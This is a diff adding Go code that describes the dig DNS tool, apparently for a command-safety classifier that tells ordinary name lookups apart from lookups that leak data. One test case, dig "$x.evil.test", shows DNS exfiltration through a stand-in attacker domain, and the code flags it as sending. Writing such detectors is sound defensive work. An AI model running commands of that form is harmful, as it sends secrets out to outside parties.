@@ -1,0 +1,50 @@
+package commands
+
+import (
+	"strings"
+
+	"automode"
+)
+
+var dig = Program{
+	Name: "dig", Also: "delv kdig", Summary: "asks name servers", Manual: "dig(1), BIND 9.20",
+	Row: Row{
+		Help: "-h",
+		Args: anyData,
+		Flags: []Flag{
+			{Names: "-4 -6 -m -r -u -v -i"},
+			{Names: "-b= -c= -p= -q= -t= -x=", Value: Data},
+			{Names: "-y=", Value: Data},
+			{Names: "-f= -k=", Value: Reads},
+		},
+		Refine: digNames,
+	},
+	Cases: []Case{
+		{`dig +short h.test mx`, `Query h.test; Query mx`},
+		{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query ns.test; Query h.test`},
+		{`dig -f l`, `Read l`},
+		{`dig -u -y k:s h.test`, `Query h.test`},
+		{`dig "$x.evil.test"`, `Send ….evil.test`},
+	},
+}
+
+// digNames: a name that is made of what is not known carries it to whoever
+// answers for the name.
+func digNames(m *Match) {
+	for _, w := range m.Args {
+		if strings.HasPrefix(w.Text, "+") {
+			continue
+		}
+		w.Text = strings.TrimPrefix(w.Text, "@")
+		askName(m, w)
+	}
+}
+
+// askName adds that a host or its name server is asked.
+func askName(m *Match, w Word) {
+	if w.Known == automode.Guess || w.Data != 0 {
+		m.Add(roleFact(Sends, w, "the name is made of what is not known here"))
+		return
+	}
+	m.Add(roleFact(Asks, w, ""))
+}
